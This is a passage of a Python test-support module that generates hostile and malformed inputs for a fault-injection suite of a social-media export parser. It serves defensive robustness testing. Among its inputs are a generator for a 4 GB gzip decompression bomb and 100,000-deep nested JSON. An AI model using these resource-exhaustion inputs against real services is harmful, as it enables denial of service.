"""Hostile and broken inputs for the fault-injection suite (issue 18), made
on the fly: nothing large is stored in the repository.

Each :class:`Case` is a name, a category, a function that writes its input
files into an empty directory and says what must come of them
(:class:`Inputs`: the paths to give, how many good posts must still load,
the words the one-line message must hold, such as ``file:line``), the exit
status each command must give (a number for all, or per command), and
extra checks. The counts and line numbers come from the generators as they
write, never from looking at threadscope's output.

``tests/test_hostile_input.py`` runs every command on every case.

The deep chain is 75,000 posts deep, not the 100,000 of issue 18: a chain
of ordinary reply texts (one post in 5,000 a forecast, questions and short
answers in between, as real threads go). 100,000 deep goes through every
command (no recursion anywhere), but costs 71 s of the suite's ~150 s
(seconds per command, forked as the suite runs them, on the 2-core
development machine: stats 2.3, posts 5.2, graph 12.0 as GraphML / ~5.5 as
JSON, participants 1.8, validate 1.6, stance 13.0, claims 1.9, predictions
3.2, report 25.9, ledger add 3.4; report and stance are most of it), so the
suite uses the largest depth that fits, 75,000 (~48 s), with the graph as
node-link JSON (GraphML of deep trees is checked on the 5,000-deep v1.1
chain and the forecast chain). A chain in which every post is a forecast
is kept to 3,000 posts: the forecast pass costs about 1 ms a post on such a
chain (a 100,000-deep one took 117 s through predictions).
"""
from __future__ import annotations

import csv
import functools
import gzip
import io
import json
import os
import stat
import subprocess
import tempfile
import zlib
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Callable, Mapping

COMMANDS = ("stats", "posts", "graph", "participants", "validate", "stance", "claims", "predictions", "report",
            "ledger-add")
#: what each command writes (``-o``, or ``--db`` for the ledger), in the case's ``out/`` directory
OUTPUTS = {"stats": "stats.csv", "posts": "posts.csv", "graph": "graph.graphml", "participants": "participants.csv",
           "stance": "stance.csv", "claims": "claims.csv", "predictions": "predictions.csv",
           "report": "report.html", "ledger-add": "ledger.sqlite"}
CSV_COMMANDS = ("stats", "posts", "participants", "stance", "claims", "predictions")

BASE_TIME = datetime(2026, 6, 18, 1, 0, tzinfo=timezone.utc)
FIRST_ID = 2067400000000000000        # 19 digits, like X's ids (beyond 2^53)
USERS = ({"id": "100", "username": "alice", "name": "Alice"},
         {"id": "101", "username": "bob", "name": "Bob"},
         {"id": "102", "username": "carol", "name": "Carol"})
HANDLES = {u["id"]: u["username"] for u in USERS}
REPLY_TEXTS = ("I disagree, the data says otherwise.", "Why do you think so?", "Agreed, good point.",
               "Source?", "lol no", "That is not what the paper says.", "Fair, but the benchmark is old.",
               "Exactly this.")
FORECAST = "I think it ships by Q1 2027, maybe 70%."
MB = 2**20


def output_path(workdir: Path, command: str) -> Path:
    return workdir / "out" / OUTPUTS[command]


# ---------------------------------------------------------------- building inputs

def iso(t: datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.000Z")


def tweet(pid, text, author: str = "100", reply_to=None, conversation=None, minutes: float = 0,
          quoted=None, **extra) -> dict:
    """A twarc2 tweet object."""
    t = {"id": pid, "text": text, "author_id": author, "created_at": iso(BASE_TIME + timedelta(minutes=minutes)),
         "conversation_id": conversation if conversation is not None else pid}
    refs = []
    if reply_to is not None:
        refs.append({"type": "replied_to", "id": reply_to})
    if quoted is not None:
        refs.append({"type": "quoted", "id": quoted})
    if refs:
        t["referenced_tweets"] = refs
    t.update(extra)
    return t


def page(tweets, users=USERS) -> bytes:
    """One twarc2 response page (a line of a JSON-lines file)."""
    return json.dumps({"data": list(tweets), "includes": {"users": list(users)},
                       "meta": {"result_count": len(tweets)}}, ensure_ascii=False).encode("utf-8")


class Export:
    """A twarc2 JSON-lines file as it is written: good pages are counted,
    and the line number of each bad line is kept."""

    def __init__(self) -> None:
        self.lines: list[bytes] = []
        self.good = 0
        self._next = FIRST_ID

    def new_id(self) -> str:
        self._next += 1
        return str(self._next)

    def page(self, tweets: list[dict], lost: int = 0, users=USERS) -> int:
        """Add a page; ``lost`` of its tweets must not load."""
        self.lines.append(page(tweets, users))
        self.good += len(tweets) - lost
        return len(self.lines)

    def thread(self, n: int = 3, texts=REPLY_TEXTS, minutes: float = 0) -> list[str]:
        """A small conversation on one page: a root and ``n - 1`` replies to it
        and to each other, by the three users."""
        ids = [self.new_id() for _ in range(n)]
        tweets = []
        for i, pid in enumerate(ids):
            parent = None if i == 0 else ids[(i - 1) // 2]
            author = USERS[i % 3]["id"]
            text = "Will open models catch up this year?" if i == 0 else \
                f"@{HANDLES[USERS[((i - 1) // 2) % 3]['id']]} {texts[i % len(texts)]}"
            tweets.append(tweet(pid, text, author, parent, ids[0], minutes + i))
        self.page(tweets)
        return ids

    def raw(self, data: bytes) -> int:
        """A line as given (garbage, a cut record ...); its number."""
        self.lines.append(data)
        return len(self.lines)

    def data(self, newline: bytes = b"\n") -> bytes:
        return newline.join(self.lines) + newline

    def write(self, path: Path, newline: bytes = b"\n") -> Path:
        path.write_bytes(self.data(newline))
        return path


@dataclass
class Inputs:
    """What a case's generator wrote: the paths to give each command, the
    posts that must load (retweets apart), and the substrings of the
    one-line message about the first problem (file, and line where there is
    one)."""

    paths: list[str]
    good: int
    message: tuple[str, ...] = ()
    stdin: str | None = None
    retweets: int = 0
    notes: dict = field(default_factory=dict)     # whatever a case's own check needs


def where(path: Path, line: int | None = None) -> str:
    return f"{path}:{line}:" if line is not None else str(path)


@dataclass(frozen=True)
class Case:
    """A hostile input and what every command must make of it.

    ``exit``: the exit status of every command, or a mapping per command
    (``"*"``: the others). ``extra``: options given to every command that
    reads (``--map``, limits). ``output(workdir, command)`` replaces the
    output path. ``terminal``: the commands with a table print it to stdout
    (checked for raw ESC/BEL) instead of writing CSV. ``check(case,
    command, run, inputs, workdir)`` adds assertions. ``seconds`` and
    ``memory_mb`` are the ceilings of each run (wall time, peak RSS), a
    number or a mapping per command. ``concurrent``: the runs of the case
    may wait at once (they wait, not compute: a FIFO with no writer).
    ``skip()`` gives a reason to skip on this machine, or None. ``xfail``
    names a known bug (strict: the run must fail until it is fixed)."""

    name: str
    category: str
    write: Callable[[Path], Inputs]
    exit: int | Mapping[str, int] = 1
    extra: tuple[str, ...] = ()
    output: Callable[[Path, str], str] | None = None
    terminal: bool = False
    check: Callable | None = None
    seconds: float | Mapping[str, float] = 20.0
    memory_mb: int | Mapping[str, int] = 1500
    concurrent: bool = False
    skip: Callable[[], str | None] | None = None
    graph_format: str = "graphml"
    counts: bool = True           # whether the good posts are counted (not for usage errors)
    xfail: str | None = None      # a known bug outside the files this suite may fix: the reason
    xfail_commands: tuple[str, ...] | None = None    # the commands it fails (None: all)
    teardown: Callable[[Path], None] | None = None  # after the runs (undo what would stop the clean-up)

    def expected_exit(self, command: str) -> int:
        return _per_command(self.exit, command)

    def ceiling(self, command: str) -> tuple[float, int]:
        return _per_command(self.seconds, command), _per_command(self.memory_mb, command)


def _per_command(value, command: str):
    if isinstance(value, Mapping):
        return value.get(command, value.get("*"))
    return value


CASES: list[Case] = []


def case(name: str, category: str, **kwargs):
    """Register the decorated generator as a case."""
    def register(write):
        CASES.append(Case(name, category, write, **kwargs))
        return write
    return register


def jsonl_case(d: Path, build: Callable[[Export], tuple[int | None, str] | None], name: str = "thread.jsonl",
               newline: bytes = b"\n") -> Inputs:
    """A twarc2 file: good threads around what ``build`` adds; ``build``
    returns the line of the first problem and a word of its reason."""
    e = Export()
    e.thread(3)
    found = build(e)
    e.thread(4, minutes=30)
    path = e.write(d / name, newline)
    if found is None:
        return Inputs([str(path)], e.good)
    line, word = found
    return Inputs([str(path)], e.good, (where(path, line), word))


# ---------------------------------------------------------------- broken lines

@case("garbage-line", "broken lines")
def _garbage(d):
    return jsonl_case(d, lambda e: (e.raw(b"{this is not json at all }"), "invalid JSON"))


@case("truncated-last-line", "broken lines")
def _truncated_last(d):
    e = Export()
    e.thread(5)
    cut = page([tweet(e.new_id(), "cut off")])[:40]
    line = e.raw(cut)
    path = d / "stream.jsonl"
    path.write_bytes(e.data()[:-1])          # a killed stream: no final newline either
    return Inputs([str(path)], e.good, (where(path, line), "truncated"))


@case("truncated-middle-line", "broken lines")
def _truncated_middle(d):
    return jsonl_case(d, lambda e: (e.raw(page([tweet(e.new_id(), "half a page")])[:-25]), "truncated"))


@case("scalar-and-list-lines", "broken lines")
def _scalars(d):
    def build(e):
        first = e.raw(b"42")
        e.raw(b'"a string"')
        e.raw(b"[1, 2, 3]")
        e.raw(b"null")
        return first, "not a post object"
    return jsonl_case(d, build)


@case("unknown-object-line", "broken lines")
def _unknown(d):
    return jsonl_case(d, lambda e: (e.raw(b'{"foo": 1, "bar": {"baz": []}}'), "unknown JSON shape"))


@case("api-error-line", "broken lines")
def _api_error(d):
    return jsonl_case(d, lambda e: (e.raw(json.dumps(
        {"title": "Too Many Requests", "type": "about:blank", "status": 429, "detail": "Too Many Requests"}).encode()),
        "API error"))


@case("record-without-text-in-good-page", "broken lines")
def _no_text(d):
    def build(e):
        good = tweet(e.new_id(), "a fine post")
        bad = tweet(e.new_id(), "x")
        del bad["text"]
        return e.page([good, bad], lost=1), "no text"
    return jsonl_case(d, build)


@case("data-is-a-string", "broken lines")
def _data_string(d):
    return jsonl_case(d, lambda e: (e.raw(b'{"data": "oops", "includes": {}, "meta": {}}'), "neither a list"))


@case("blank-lines-and-crlf", "broken lines", exit=0)
def _blank_crlf(d):
    def build(e):
        e.raw(b"   ")
        e.raw(b"")
        e.raw(b"\t")
    return jsonl_case(d, build, newline=b"\r\n")


def _one_error(case, command, run, inputs, workdir):
    if command == "validate":
        errors = [line for line in run.stdout.decode().splitlines() if ": error: " in line]
        assert len(errors) == 1, f"one broken object, {len(errors)} problems: {errors}"
    else:
        assert "(1 record(s) not loaded)" in run.stderr.decode(), run.stderr


@case("concatenated-objects-one-broken", "broken lines", check=_one_error)
def _concatenated(d):
    """v1.1 objects written one after another (not one per line), the
    second broken off mid-object."""
    def v1(i, text, reply_to=None):
        t = {"id": int(i), "id_str": i, "full_text": text, "created_at": "Thu Jun 18 01:00:00 +0000 2026",
             "user": {"id": 100, "id_str": "100", "screen_name": "alice", "name": "Alice"}}
        if reply_to:
            t["in_reply_to_status_id_str"] = reply_to
        return json.dumps(t, indent=1)
    a, b, c = (str(FIRST_ID + i) for i in (1, 2, 3))
    good = [v1(a, "first"), v1(c, "@alice third", a)]
    broken = v1(b, "second").replace('"id_str":', '"id_str"')          # a colon missing
    text = good[0] + "\n" + broken + "\n" + good[1] + "\n"
    path = d / "concatenated.json"
    path.write_text(text, encoding="utf-8")
    line = good[0].count("\n") + 2
    return Inputs([str(path)], 2, (where(path, line),))


# ---------------------------------------------------------------- encodings

@case("nul-byte-in-one-line", "encodings")
def _nul(d):
    return jsonl_case(d, lambda e: (e.raw(page([tweet(e.new_id(), "nul here")]).replace(b"nul here", b"nul\x00here")),
                                    "NUL byte"))


@case("bad-utf8-in-one-line", "encodings")
def _bad_utf8(d):
    return jsonl_case(d, lambda e: (e.raw(page([tweet(e.new_id(), "caf\u00e9")]).replace("\u00e9".encode(), b"\xe9\xff")),
                                    "invalid UTF-8"))


@case("nul-and-bad-utf8-in-the-first-line", "encodings")
def _bad_first(d):
    e = Export()
    first = e.raw(page([tweet(e.new_id(), "x")]).replace(b'"x"', b'"\xff\xfe\x00"'))
    e.thread(6)
    path = e.write(d / "first.jsonl")
    return Inputs([str(path)], e.good, (where(path, first), "NUL byte"))


@case("bom-and-crlf", "encodings", exit=0)
def _bom(d):
    e = _lines_of_posts(3)
    path = d / "bom.jsonl"
    path.write_bytes(b"\xef\xbb\xbf" + e.data(b"\r\n"))
    return Inputs([str(path)], e.good)


@case("lone-surrogate-escape-in-a-line", "encodings")
def _surrogate(d):
    """Half a character, escaped: the post loads with U+FFFD in its place
    and a warning, and so does its neighbour on the page."""
    def build(e):
        line = e.page([tweet(e.new_id(), "lone SURROGATE here"), tweet(e.new_id(), "a good neighbour")])
        e.lines[-1] = e.lines[-1].replace(b"SURROGATE", b"\\ud800")
        return line, "lone surrogate"
    return jsonl_case(d, build)


@case("utf16-file", "encodings")
def _utf16(d):
    e = Export()
    e.thread(3)
    path = d / "utf16.jsonl"
    path.write_bytes(e.data().decode().encode("utf-16"))
    return Inputs([str(path)], 0, (str(path), "UTF-16"))


@case("bad-utf8-in-a-json-document", "encodings")
def _bad_utf8_doc(d):
    doc = json.dumps({"data": [tweet(str(FIRST_ID + 1), "caf\u00e9 ok"), tweet(str(FIRST_ID + 2), "two")],
                      "includes": {"users": list(USERS)}}, indent=2, ensure_ascii=False).encode()
    data = doc.replace("caf\u00e9".encode(), b"caf\xe9")
    path = d / "response.json"
    path.write_bytes(data)
    line = data[:data.index(b"caf\xe9")].count(b"\n") + 1
    return Inputs([str(path)], 2, (where(path, line), "UTF-8"))


# ---------------------------------------------------------------- compression

def _lines_of_posts(n_pages: int, per_page: int = 5) -> Export:
    e = Export()
    for i in range(n_pages):
        e.thread(per_page, minutes=i * 10)
    return e


def _complete_lines(data: bytes) -> int:
    """Good posts in the complete lines of decompressed ``data`` (every line
    of the generator is a page of 5 good posts)."""
    return data.count(b"\n") * 5


@case("truncated-gzip", "compression")
def _truncated_gz(d):
    e = _lines_of_posts(40)
    packed = gzip.compress(e.data())
    cut = packed[: len(packed) // 2]
    z = zlib.decompressobj(16 + zlib.MAX_WBITS)
    readable = z.decompress(cut)           # what any reader can get from the cut file
    path = d / "cut.jsonl.gz"
    path.write_bytes(cut)
    complete = readable.count(b"\n")
    # the first problem: the line the cut runs through, or the cut itself
    message = (where(path, complete + 1), "truncated JSON line") if not readable.endswith(b"\n") else \
        (str(path), "gzip data cut off")
    return Inputs([str(path)], _complete_lines(readable), message)


@case("corrupt-gzip-after-a-flush", "compression")
def _corrupt_gz(d):
    e = _lines_of_posts(10)
    z = zlib.compressobj(6, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    good = e.data()
    head = z.compress(good) + z.flush(zlib.Z_FULL_FLUSH)
    path = d / "corrupt.jsonl.gz"
    path.write_bytes(head + b"\xff" * 64)  # a deflate block of the reserved type: corrupt from here
    return Inputs([str(path)], _complete_lines(good), (str(path), "corrupt gzip"))


@case("gzip-with-trailing-garbage", "compression")
def _trailing(d):
    e = _lines_of_posts(4)
    path = d / "trailing.jsonl.gz"
    path.write_bytes(gzip.compress(e.data()) + b"this is no gzip member" * 3)
    return Inputs([str(path)], e.good, (str(path), "not gzip"))


@case("concatenated-gzip-members", "compression", exit=0)
def _members(d):
    a, b = _lines_of_posts(3), Export()
    b._next = FIRST_ID + 50_000
    for i in range(3):
        b.thread(5)
    path = d / "members.jsonl.gz"
    path.write_bytes(gzip.compress(a.data()) + gzip.compress(b.data()))
    return Inputs([str(path)], a.good + b.good)


def bomb(path: Path, e_before: Export, blank_mb: int, e_after: Export | None = None) -> int:
    """A small gzip file holding good pages, then ``blank_mb`` MB of blank
    lines (1 MB of spaces each), then maybe more pages: the blank part is
    one 1 MB line compressed once and repeated as gzip members, so a bomb
    of gigabytes is a few MB and costs nothing to make. Returns its size."""
    line = gzip.compress(b" " * (MB - 1) + b"\n", 9)
    with open(path, "wb") as f:
        f.write(gzip.compress(e_before.data()))
        for _ in range(blank_mb):
            f.write(line)
        if e_after is not None:
            f.write(gzip.compress(e_after.data()))
    return path.stat().st_size


@case("gzip-bomb-4gb", "compression", seconds=10, memory_mb=1000)
def _bomb(d):
    """4 GB of blanks in a 4 MB file, then posts that are never reached."""
    e = _lines_of_posts(3)
    path = d / "bomb.jsonl.gz"
    after = Export()
    after._next = FIRST_ID + 90_000
    after.thread(5)
    size = bomb(path, e, 4096, after)
    assert size < 8 * MB
    return Inputs([str(path)], e.good, (str(path), "decompression bomb", "--max-gzip-ratio"))


def _small_bomb(d, name="bomb70.jsonl.gz"):
    before = _lines_of_posts(2)
    after = Export()
    after._next = FIRST_ID + 90_000
    after.thread(5)
    path = d / name
    bomb(path, before, 70, after)
    return path, before.good, before.good + after.good


@case("gzip-bomb-read-with-the-ratio-raised", "compression", exit=0, extra=("--max-gzip-ratio", "0"), seconds=30)
def _bomb_raised(d):
    path, _, total = _small_bomb(d)
    return Inputs([str(path)], total)


@case("gzip-past-max-input-size", "compression", extra=("--max-input-size", "20M"), seconds=10)
def _bomb_size(d):
    path, before, _ = _small_bomb(d)
    return Inputs([str(path)], before, (str(path), "--max-input-size"))


# ---------------------------------------------------------------- size

@case("50mb-post-text", "size", seconds=40, memory_mb=2500)
def _huge_text(d):
    def build(e):
        pid = e.new_id()
        big = "word " * (10 * MB)                # 50 MB of text in one post
        return e.page([tweet(pid, big)]), "cut to"
    return jsonl_case(d, build, "huge.jsonl")


@case("20mb-garbage-line", "size", seconds=40, memory_mb=2000)
def _huge_garbage(d):
    return jsonl_case(d, lambda e: (e.raw(b'{"data": [' + b"x" * (20 * MB) + b"]}"), "invalid JSON"), "garbage.jsonl")


@case("2000-one-word-answers", "messy threads", exit=0, seconds=60)
def _fanout(d):
    e = Export()
    root = e.new_id()
    tweets = [tweet(root, "Quick poll: will open models match GPT-5 by end of 2027? Yes or no.", "100")]
    words = ("Yes", "No", "Nope", "Yes.", "lol", "Definitely", "2028", "No way", "Probably", "Soon")
    for i in range(2000):
        tweets.append(tweet(e.new_id(), f"@alice {words[i % len(words)]}", USERS[1 + i % 2]["id"], root, root, 1 + i / 60))
        if len(tweets) == 1000:
            e.page(tweets)
            tweets = []
    e.page(tweets)
    path = e.write(d / "fanout.jsonl")
    return Inputs([str(path)], e.good)


@case("poll-quotes-fanout-and-broken-lines", "messy threads")
def _messy(d):
    e = Export()
    root = e.new_id()
    poll = tweet(root, "When will China's models reach Fable-level? Place your bets", "100",
                 attachments={"poll_ids": ["1"]})
    replies = [tweet(e.new_id(), f"@alice {w}", USERS[1 + i % 2]["id"], root, root, 1 + i)
               for i, w in enumerate(("Q1 2027", "never", "2026", "Yes", "No"))]
    e.page([poll] + replies)
    first = e.raw(page([tweet(e.new_id(), "cut")])[:30])
    quote = tweet(e.new_id(), "Too optimistic. Late 2027 at best.", "102", None, None, 20, quoted=root)
    quote_reply = tweet(e.new_id(), "@carol agreed", "101", quote["id"], quote["id"], 21)
    e.page([quote, quote_reply])
    e.raw(b"\x00\x00garbage")
    e.page([tweet(e.new_id(), f"@alice {w}", "102", root, root, 30 + i) for i, w in enumerate(("+1", "no", "?"))])
    path = e.write(d / "messy.jsonl")
    return Inputs([str(path)], e.good, (where(path, first), "truncated"))


# ---------------------------------------------------------------- deep and cyclic trees

def chain(path: Path, n: int, forecast_every: int = 5000, texts=REPLY_TEXTS) -> int:
    """A reply chain ``n`` posts deep (each post answers the one before),
    1,000 posts a page; every ``forecast_every``-th post is a forecast."""
    ids = [str(FIRST_ID + i) for i in range(n)]
    with open(path, "wb") as f:
        batch = []
        for i, pid in enumerate(ids):
            author = USERS[i % 2]["id"]
            body = FORECAST if forecast_every and i % forecast_every == forecast_every - 1 else texts[i % len(texts)]
            text = body if i == 0 else f"@{HANDLES[USERS[(i - 1) % 2]['id']]} {body}"
            batch.append(tweet(pid, text, author, ids[i - 1] if i else None, ids[0], i))
            if len(batch) == 1000:
                f.write(page(batch) + b"\n")
                batch = []
        if batch:
            f.write(page(batch) + b"\n")
    return n


DEEP = 75_000
DEEP_SECONDS = {"*": 60, "graph": 60, "report": 120, "stance": 60}


@case("reply-chain-75000-deep", "deep and cyclic trees", exit=0, seconds=DEEP_SECONDS, memory_mb=4000,
      graph_format="json")
def _deep(d):
    path = d / "chain.jsonl"
    return Inputs([str(path)], chain(path, DEEP))


@case("forecast-chain-3000-deep", "deep and cyclic trees", exit=0, seconds=60)
def _forecast_chain(d):
    path = d / "forecasts.jsonl"
    return Inputs([str(path)], chain(path, 3000, forecast_every=1))


@case("v11-chain-5000-deep-without-conversation-ids", "deep and cyclic trees", exit=0, seconds=60, memory_mb=2500)
def _v1_chain(d):
    path = d / "v11.jsonl"
    with open(path, "w", encoding="utf-8") as f:
        for i in range(5000):
            t = {"id_str": str(FIRST_ID + i), "full_text": ("@bob " if i else "") + REPLY_TEXTS[i % 8],
                 "created_at": (BASE_TIME + timedelta(minutes=i)).strftime("%a %b %d %H:%M:%S +0000 %Y"),
                 "user": {"id_str": "100" if i % 2 else "101", "screen_name": "alice" if i % 2 else "bob"}}
            if i:
                t["in_reply_to_status_id_str"] = str(FIRST_ID + i - 1)
            f.write(json.dumps(t) + "\n")
    return Inputs([str(path)], 5000)


def _cycle(e: Export, n: int, conversation: str | None = None) -> list[str]:
    ids = [e.new_id() for _ in range(n)]
    tweets = [tweet(pid, f"@bob round {i}", USERS[i % 2]["id"], ids[(i - 1) % n], conversation or ids[0], i)
              for i, pid in enumerate(ids)]
    e.page(tweets)
    return ids


@case("reply-cycle-of-two", "deep and cyclic trees")
def _cycle2(d):
    return jsonl_case(d, lambda e: (_cycle(e, 2) and len(e.lines), "reply to each other in a cycle"))


@case("reply-cycle-of-300-without-conversation-ids", "deep and cyclic trees")
def _cycle300(d):
    e = Export()
    ids = [e.new_id() for _ in range(300)]
    e.page([{k: v for k, v in tweet(pid, "@bob round", USERS[i % 2]["id"], ids[i - 1], None, i).items()
             if k != "conversation_id"} for i, pid in enumerate(ids)])
    path = e.write(d / "cycle.jsonl")
    return Inputs([str(path)], e.good, (where(path, 1), "300 posts reply to each other in a cycle"))


@case("self-replies-and-self-quotes", "deep and cyclic trees")
def _self(d):
    def build(e):
        a, b = e.new_id(), e.new_id()
        e.page([tweet(a, "I answer myself", "100", a, a), tweet(b, "I quote myself", "101", None, b, 1, quoted=b)])
        return len(e.lines), "replies to itself"
    return jsonl_case(d, build)


@case("quote-cycle-across-conversations", "deep and cyclic trees", exit=0)
def _quote_cycle(d):
    def build(e):
        a, b = e.new_id(), e.new_id()
        e.page([tweet(a, "see this", "100", None, a, 0, quoted=b), tweet(b, "no, see that", "101", None, b, 1, quoted=a)])
    return jsonl_case(d, build)


@case("chain-under-a-missing-parent", "deep and cyclic trees", exit=0)
def _missing_parent(d):
    e = Export()
    root = e.thread(2)[0]
    ghost = e.new_id()
    ids = [e.new_id() for _ in range(1500)]
    e.page([tweet(pid, "@bob deeper", USERS[i % 2]["id"], ids[i - 1] if i else ghost, root, 5 + i)
            for i, pid in enumerate(ids)][:1000])
    e.page([tweet(pid, "@bob deeper", USERS[i % 2]["id"], ids[i - 1], root, 5 + i)
            for i, pid in enumerate(ids)][1000:])
    path = e.write(d / "gap.jsonl")
    return Inputs([str(path)], e.good)


# ---------------------------------------------------------------- wrong types

def _typed_case(d, mutate: Callable[[dict], None], word: str, lost: bool):
    def build(e):
        t = tweet(e.new_id(), "a post with an odd field", "101")
        mutate(t)
        return e.page([t], lost=int(lost)), word
    return jsonl_case(d, build)


@case("id-number-beyond-2-53", "wrong types")
def _id_big(d):
    return _typed_case(d, lambda t: t.update(id=int(t["id"])), "JSON number", lost=False)


@case("id-float", "wrong types")
def _id_float(d):
    return _typed_case(d, lambda t: t.update(id=float(t["id"])), "floating-point", lost=True)


@case("id-object", "wrong types")
def _id_object(d):
    return _typed_case(d, lambda t: t.update(id={"$numberLong": t["id"]}), "JSON object", lost=True)


@case("id-boolean-and-reply-id-list", "wrong types")
def _id_bool(d):
    def build(e):
        a = tweet(e.new_id(), "bool id")
        a["id"] = True
        b = tweet(e.new_id(), "list reply id", reply_to=["1", "2"])
        return e.page([a, b], lost=2), "boolean"
    return jsonl_case(d, build)


@case("text-number", "wrong types")
def _text_number(d):
    return _typed_case(d, lambda t: t.update(text=42), "text", lost=True)


@case("text-null", "wrong types")
def _text_null(d):
    return _typed_case(d, lambda t: t.update(text=None), "no text", lost=True)


@case("text-list", "wrong types")
def _text_list(d):
    return _typed_case(d, lambda t: t.update(text=["a", "b"]), "text", lost=True)


@case("entities-list-and-metrics-string", "wrong types", exit=0)
def _entities(d):
    """Fields of the wrong shape that hold nothing the post needs are read
    as absent (the post loads, without links or counts)."""
    return _typed_case(d, lambda t: t.update(entities=[{"urls": []}], public_metrics="many"), "entities",
                       lost=False)


@case("includes-users-object-and-author-list", "wrong types")
def _users_object(d):
    def build(e):
        e.raw(json.dumps({"data": [tweet(e.new_id(), "odd includes")], "includes": {"users": {"id": "100"}}})
              .encode())
        e.good += 1            # the post loads: its author is known by id
        t = tweet(e.new_id(), "author list")
        t["author_id"] = ["100"]
        return e.page([t], lost=1), "author id is a JSON list"
    return jsonl_case(d, build)


@case("json-nested-100000-deep-line", "wrong types")
def _deep_json(d):
    return jsonl_case(d, lambda e: (e.raw(b'{"data": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"), "nested"))


@case("json-nested-100000-deep-document", "wrong types")
def _deep_doc(d):
    path = d / "deep.json"
    path.write_bytes(b"{\n" + b'"data": ' + b"[" * 100_000 + b"]" * 100_000 + b"\n}\n")
    return Inputs([str(path)], 0, (str(path), "nested"))


@case("5000-digit-integers", "wrong types")
def _big_int(d):
    def build(e):
        big = "9" * 5000
        first = e.raw(page([tweet(e.new_id(), "metrics")]).replace(b'"result_count": 1', f'"result_count": {big}'.encode()))
        line = page([tweet(e.new_id(), "big id")]).replace(b'"id": "', f'"id": {big}, "x": "'.encode(), 1)
        e.raw(line)
        return first, "number"
    return jsonl_case(d, build)


@case("5000-digit-integer-in-a-json-document", "wrong types")
def _big_int_doc(d):
    path = d / "v11.json"
    big = "9" * 5000
    good = {"id_str": str(FIRST_ID + 1), "full_text": "fine", "created_at": "Thu Jun 18 01:00:00 +0000 2026",
            "user": {"id_str": "100", "screen_name": "alice"}}
    text = json.dumps(good, indent=1) + "\n" + json.dumps(dict(good, id_str=str(FIRST_ID + 2)), indent=1).replace(
        '"full_text"', f'"favorite_count": {big},\n "full_text"') + "\n"
    path.write_text(text, encoding="utf-8")
    line = json.dumps(good, indent=1).count("\n") + 2       # where the second object starts
    return Inputs([str(path)], 1, (where(path, line), "number too large"))


# ---------------------------------------------------------------- dates

def _date_case(d, value, word):
    def build(e):
        t = tweet(e.new_id(), "when was this?", "101")
        t["created_at"] = value
        return e.page([t]), word
    return jsonl_case(d, build)


@case("created-at-year-9999", "dates")
def _y9999(d):
    return _date_case(d, "9999-12-31T23:59:59.000Z", "outside")


@case("created-at-year-0001", "dates")
def _y0001(d):
    return _date_case(d, "0001-01-01T00:00:00.000Z", "outside")


@case("created-at-invalid", "dates")
def _bad_date(d):
    return _date_case(d, "2026-13-45T99:99:99Z", "not a time")


@case("created-at-epoch-1e20-and-negative", "dates")
def _epoch(d):
    def build(e):
        a = tweet(e.new_id(), "huge epoch")
        a["created_at"] = 1e20
        b = tweet(e.new_id(), "negative epoch")
        b["created_at"] = -5_000_000_000_000
        return e.page([a, b]), "created_at"
    return jsonl_case(d, build)


@case("created-at-v11-style-invalid-and-object", "dates")
def _v11_date(d):
    def build(e):
        a = tweet(e.new_id(), "v1.1 style, day 99")
        a["created_at"] = "Thu Jun 99 17:33:23 +0000 2016"
        b = tweet(e.new_id(), "object date")
        b["created_at"] = {"$date": "2026-06-18"}
        return e.page([a, b]), "not a time"
    return jsonl_case(d, build)


# ---------------------------------------------------------------- CSV

def write_csv(path: Path, rows: list[list], header=("id", "text", "author", "reply_to", "created_at")) -> None:
    buf = io.StringIO(newline="")
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(header)
    for row in rows:
        w.writerow(row)
    path.write_text(buf.getvalue(), encoding="utf-8", newline="")


def _csv_rows(n: int, start: int = 0) -> list[list]:
    rows = []
    for i in range(n):
        pid = str(FIRST_ID + start + i)
        rows.append([pid, "root post" if i == 0 else "@alice a reply", USERS[i % 3]["username"],
                     "" if i == 0 else str(FIRST_ID + start), iso(BASE_TIME + timedelta(minutes=i))])
    return rows


@case("csv-mismatched-columns", "CSV")
def _csv_mismatch(d):
    rows = _csv_rows(6)
    rows[2] = rows[2] + ["extra", "cells"]
    rows[4] = rows[4][:3]                    # short: no reply_to, no time, still a post
    path = d / "mismatch.csv"
    write_csv(path, rows)
    return Inputs([str(path)], 6, (where(path, 4), "cells"))


@case("csv-unclosed-quote", "CSV")
def _csv_quote(d):
    rows = _csv_rows(4)
    path = d / "quote.csv"
    write_csv(path, rows)
    text = path.read_text(encoding="utf-8") + f'{FIRST_ID + 10},"never closed,bob,,\n'
    path.write_text(text, encoding="utf-8")
    return Inputs([str(path)], 4, (str(path),))


@case("csv-nul-and-bad-utf8-in-a-row", "CSV")
def _csv_nul(d):
    path = d / "nul.csv"
    write_csv(path, _csv_rows(5))
    data = path.read_bytes().replace(b"@alice a reply", b"@alice a\x00 re\xffply", 1)
    path.write_bytes(data)
    line = data[:data.index(b"\x00")].count(b"\n") + 1
    return Inputs([str(path)], 5, (where(path, line), "NUL"))


@case("csv-map-missing-column", "CSV", exit=2, extra=("--map", "text=nope"), counts=False)
def _csv_map(d):
    path = d / "mapped.csv"
    write_csv(path, _csv_rows(3), header=("tweet_id", "body", "user", "parent", "date"))
    return Inputs([str(path)], 0, ("nope", str(path)))


@case("csv-map-unknown-field", "CSV", exit=2, extra=("--map", "bogus=body"), counts=False)
def _csv_unknown_field(d):
    path = d / "mapped.csv"
    write_csv(path, _csv_rows(3), header=("tweet_id", "body", "user", "parent", "date"))
    return Inputs([str(path)], 0, ("bogus",))


@case("csv-header-only", "CSV")
def _csv_header(d):
    path = d / "header.csv"
    write_csv(path, [])
    return Inputs([str(path)], 0, (str(path), "no posts"))


@case("csv-scientific-notation-ids", "CSV")
def _csv_sci(d):
    rows = _csv_rows(4)
    rows[2][0] = "2.0674E+18"
    path = d / "sci.csv"
    write_csv(path, rows)
    return Inputs([str(path)], 3, (where(path, 4), "scientific notation"))


# ---------------------------------------------------------------- output paths

def _plain_input(d, n=5) -> Inputs:
    e = _lines_of_posts(1, n)
    path = e.write(d / "in.jsonl")
    return Inputs([str(path)], e.good)


NO_OUTPUT = {"validate": 0, "*": 2}     # validate writes nothing: it reads and exits 0


def _under_missing(workdir: Path, command: str) -> str:
